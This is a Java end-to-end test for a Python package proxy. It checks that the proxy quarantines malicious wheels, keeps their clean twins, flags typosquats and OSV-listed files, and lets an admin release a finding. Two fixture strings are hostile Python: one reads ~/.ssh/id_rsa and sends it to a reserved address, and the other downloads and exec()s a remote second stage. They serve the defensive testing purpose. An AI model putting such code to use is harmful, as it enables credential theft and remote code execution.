package dev.sluice.inspection;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.sluice.app.ServerSettings;
import dev.sluice.config.ConfigReader;
import dev.sluice.proxy.UpstreamSettings;
import dev.sluice.testing.Eventually;
import dev.sluice.testing.Multipart;
import dev.sluice.testing.Nginx;
import dev.sluice.testing.OsvRecords;
import dev.sluice.testing.PythonTools;
import dev.sluice.testing.SluiceHarness;
import dev.sluice.testing.StaticMirror;
import dev.sluice.testing.Wheels;
import dev.sluice.util.Digests;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Proxied hostile files, with a real nginx as the upstream mirror and real pip: the first client never receives the
 * last byte of a malicious wheel, nothing is cached, the upstream is never asked for it again, and the finding names
 * the rule; the page drops it and keeps its clean twin, which pip installs; a project whose every file is malicious
 * says {@code quarantined}; an admin's release serves it again, audited. A name imitating a hosted project and a file
 * an OSV {@code MAL-} record lists by sha256 are caught too; a folder's files are inspected in the background as
 * they are listed and held (503, Retry-After) until judged. Payloads are harmless: nothing here is ever run, and the
 * addresses are reserved ones.
 */
class QuarantineEndToEndTest {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String JSON_TYPE = "application/vnd.pypi.simple.v1+json";
    private static final String EXFILTRATION = """
            import os, urllib.request

            def _report():
                key = open(os.path.expanduser('~/.ssh/id_rsa')).read()
                urllib.request.urlopen('http://192.0.2.10/collect', data=key.encode())
            """;
    private static final String DOWNLOAD_EXEC = """
            from urllib.request import urlopen

            def _update():
                exec(urlopen('http://192.0.2.11/stage2.py').read())
            """;

    @TempDir
    Path dir;

    @Test
    void hostileProxiedFilesAreQuarantinedAndReleasable() throws Exception {
        Path mirror = Files.createDirectories(dir.resolve("mirror"));
        Path files = Files.createDirectories(mirror.resolve("packages"));
        Path clean = Wheels.wheel(files, "helper-lib", "1.0");
        Path hostile = Wheels.wheelWith(files, "helper-lib", "1.1", Map.of("helper_lib_report.py", EXFILTRATION));
        Path onlyHostile = Wheels.wheelWith(files, "evil-only", "1.0", Map.of("evil_only.py", DOWNLOAD_EXEC));
        Path lookAlike = Wheels.wheel(files, "acme-util5", "1.0");
        Path listed = Wheels.wheel(files, "plain-pkg", "1.0");
        StaticMirror.write(mirror, List.of(clean, hostile, onlyHostile, lookAlike, listed));
        Nginx nginx = Nginx.serve(mirror, dir.resolve("nginx"));
        UpstreamSettings upstream = UpstreamSettings.defaults("pypi", URI.create(nginx.url("/simple/")))
                .withPageTtl(Duration.ofMinutes(10)).withTimeout(Duration.ofSeconds(5));
        PythonTools tools = new PythonTools(dir.resolve("home"));
        try (nginx; SluiceHarness sluice = SluiceHarness.start(ServerSettings.defaults(dir.resolve("data"))
                .withAdminToken(SluiceHarness.TOKEN).withUpstream(upstream))) {
            String hostileName = hostile.getFileName().toString();
            String hostileUrl = "/indexes/pypi/simple/helper-lib/" + hostileName;

            // the first client: the transfer breaks before the last byte, and the bytes are never the file's
            byte[] whole = Files.readAllBytes(hostile);
            try {
                HttpResponse<byte[]> first = sluice.getBytes(hostileUrl);
                assertThat(first.body()).isNotEqualTo(whole);
                assertThat(first.body().length).isLessThan(whole.length);
            } catch (IOException broken) {
                // the usual way: the connection fails mid-body
            }
            JsonNode flagged = JSON.readTree(sluice.admin("GET", "/admin/findings?verdict=malicious", null).body()).get("files");
            assertThat(flagged).singleElement().satisfies(f -> {
                assertThat(f.get("filename").asText()).isEqualTo(hostileName);
                assertThat(f.get("origin").asText()).isEqualTo("proxy");
                assertThat(f.get("reason").asText()).startsWith("malicious exfiltration: helper_lib_report.py:5: reads '~/.ssh/id_rsa'");
            });
            String id = flagged.get(0).get("id").asText();
            assertThat(sluice.storedFileNames()).as("nothing cached as servable").doesNotContain(Digests.of(whole).sha256());

            // from now on: 403 naming the finding, off the page, the upstream not asked again; the clean twin is served
            HttpResponse<String> refused = sluice.get(hostileUrl);
            assertThat(refused.statusCode()).isEqualTo(403);
            assertThat(refused.body()).contains("quarantined (" + id + ")").contains("exfiltration");
            JsonNode page = JSON.readTree(sluice.get("/indexes/pypi/simple/helper-lib/", "Accept", JSON_TYPE).body());
            assertThat(page.get("files")).extracting(f -> f.get("filename").asText()).containsExactly(clean.getFileName().toString());
            assertThat(page.get("_hidden").get(0).get("reason").asText()).contains("exfiltration");
            assertThat(page.get("project-status").get("status").asText()).isEqualTo("active");
            PythonTools.Result pip = tools.run(dir, PythonTools.pyenvPython(), "-m", "pip", "install", "--no-cache-dir",
                    "--target", dir.resolve("site").toString(), "--index-url", sluice.base() + "/indexes/pypi/simple/", "helper-lib");
            pip.requireSuccess("pip through the quarantine");
            assertThat(pip.output()).contains("Successfully installed helper-lib-1.0");
            assertThat(nginx.accessLog().stream().filter(l -> l.contains(hostileName))).as("asked upstream once").hasSize(1);

            // a project whose every file is malicious is quarantined as a whole (PEP 792)
            try {
                sluice.getBytes("/indexes/pypi/simple/evil-only/" + onlyHostile.getFileName());
            } catch (IOException broken) {
                // expected
            }
            JsonNode evil = JSON.readTree(sluice.get("/indexes/pypi/simple/evil-only/", "Accept", JSON_TYPE).body());
            assertThat(evil.get("files")).isEmpty();
            assertThat(evil.get("project-status").get("status").asText()).isEqualTo("quarantined");
            assertThat(evil.get("project-status").get("reason").asText()).contains("download-exec");
            assertThat(sluice.get("/indexes/pypi/simple/evil-only/").body())
                    .contains("<meta name=\"pypi:project-status\" content=\"quarantined\">");

            // an admin releases the file with a reason: served again (downloaded, judged, released), audited
            assertThat(sluice.admin("POST", "/admin/findings/" + id + "/release", "{}").statusCode()).isEqualTo(400);
            HttpResponse<String> release = sluice.admin("POST", "/admin/findings/" + id + "/release",
                    "{\"reason\": \"reviewed: a test fixture that is never run\"}");
            assertThat(release.statusCode()).as(release.body()).isEqualTo(200);
            assertThat(sluice.getBytes(hostileUrl).body()).isEqualTo(whole);
            JsonNode shown = JSON.readTree(sluice.admin("GET", "/admin/findings/" + id, null).body());
            assertThat(shown.get("decision").get("by").asText()).isEqualTo("admin");
            assertThat(shown.get("events")).extracting(e -> e.get("action").asText()).containsExactly("inspected", "released");
            assertThat(shown.get("findings")).anySatisfy(f -> {
                assertThat(f.get("rule").asText()).isEqualTo("exfiltration");
                assertThat(f.get("file").asText()).isEqualTo("helper_lib_report.py");
                assertThat(f.get("line").asInt()).isEqualTo(5);
            });
            JsonNode released = JSON.readTree(sluice.get("/indexes/pypi/simple/helper-lib/", "Accept", JSON_TYPE).body());
            assertThat(released.get("files")).hasSize(2);
            assertThat(released.get("_findings").get(hostileName).get("action").asText()).isEqualTo("released");

            // an upstream name one letter from a hosted one: suspicious, served, and said so on the JSON page
            Path internal = Wheels.wheel(Files.createDirectories(dir.resolve("internal")), "acme-utils", "2.0");
            assertThat(sluice.upload(Multipart.twineLike(internal, "acme-utils", "2.0")).statusCode()).isEqualTo(200);
            assertThat(sluice.getBytes("/indexes/pypi/simple/acme-util5/" + lookAlike.getFileName()).statusCode()).isEqualTo(200);
            JsonNode imitation = JSON.readTree(sluice.get("/indexes/pypi/simple/acme-util5/", "Accept", JSON_TYPE).body());
            assertThat(imitation.get("_findings").get(lookAlike.getFileName().toString()).get("findings").get(0).asText())
                    .contains("typosquat").contains("acme-utils");

            // a file an OSV malicious-package record lists by its sha256 (its content alone is clean)
            String sha256 = Digests.of(Files.readAllBytes(listed)).sha256();
            OsvRecords.importZip(sluice, OsvRecords.zip("""
                    {"id": "MAL-2099-7", "modified": "2026-11-30T10:00:00Z", "summary": "Malicious code in plain-pkg (PyPI)",
                     "affected": [{"package": {"name": "plain-pkg", "ecosystem": "PyPI"}, "versions": ["9.9"],
                       "database_specific": {"indicators": {"package_integrity": [
                         {"filename": "%s", "hashes": {"sha256": "%s"}}]}}}]}
                    """.formatted(listed.getFileName(), sha256)));
            try {
                sluice.getBytes("/indexes/pypi/simple/plain-pkg/" + listed.getFileName());
            } catch (IOException broken) {
                // expected
            }
            HttpResponse<String> listedAgain = sluice.get("/indexes/pypi/simple/plain-pkg/" + listed.getFileName());
            assertThat(listedAgain.statusCode()).isEqualTo(403);
            assertThat(listedAgain.body()).contains("osv-malicious").contains("MAL-2099-7");
        }
    }

    @Test
    void aFolderIsInspectedAsListedAndItsFilesHeldUntilJudged() throws Exception {
        Path folder = Files.createDirectories(dir.resolve("wheels"));
        Path clean = Wheels.wheel(folder, "tidy", "1.0");
        Path hostile = Wheels.wheelWith(folder, "tidy", "1.1", Map.of("tidy_update.py", DOWNLOAD_EXEC));
        Path config = Files.writeString(dir.resolve("sluice.toml"), """
                [sources.wheels]
                type = "directory"
                path = "%s"

                [routes.main]
                path = "/simple/"
                serve = "wheels"
                quarantine = "suspicious"
                """.formatted(folder));
        try (SluiceHarness sluice = SluiceHarness.start(ServerSettings.defaults(dir.resolve("data"))
                .withAdminToken(SluiceHarness.TOKEN).withConfigFile(config, ConfigReader.read(config, null).graph()))) {
            String cleanUrl = "/simple/tidy/" + clean.getFileName();
            String hostileUrl = "/simple/tidy/" + hostile.getFileName();
            HttpResponse<String> held = sluice.get(hostileUrl); // never judged: queued now, held meanwhile
            assertThat(held.statusCode()).isEqualTo(503);
            assertThat(held.headers().firstValue("Retry-After")).hasValue("5");
            assertThat(held.body()).contains("is being inspected");
            assertThat(Eventually.poll(() -> sluice.get(hostileUrl).statusCode(), status -> status != 503)).isEqualTo(403);
            assertThat(sluice.get(hostileUrl).body()).contains("download-exec");
            assertThat(Eventually.poll(() -> sluice.getBytes(cleanUrl), r -> r.statusCode() != 503).body())
                    .isEqualTo(Files.readAllBytes(clean));
            JsonNode page = JSON.readTree(sluice.get("/simple/tidy/", "Accept", JSON_TYPE).body());
            assertThat(page.get("files")).extracting(f -> f.get("filename").asText()).containsExactly(clean.getFileName().toString());
            JsonNode verdict = JSON.readTree(sluice.admin("GET", "/admin/findings?project=tidy", null).body()).get("files");
            assertThat(verdict).singleElement().satisfies(v -> assertThat(v.get("origin").asText()).isEqualTo("directory"));
        }
    }
}
